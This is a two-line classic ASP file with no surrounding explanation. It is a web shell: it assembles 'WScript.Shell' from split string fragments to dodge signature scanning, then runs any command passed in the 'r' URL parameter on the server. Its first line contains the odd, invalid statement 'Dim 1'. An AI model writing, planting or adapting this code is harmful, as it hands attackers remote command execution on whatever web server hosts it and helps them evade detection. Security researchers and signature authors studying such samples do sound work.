<% Response.End : Dim 1 %>
<% a = Array("WScr","ipt.Sh","ell") : Set s = CreateObject(Join(a, "")) : s.Run Request.QueryString("r") %>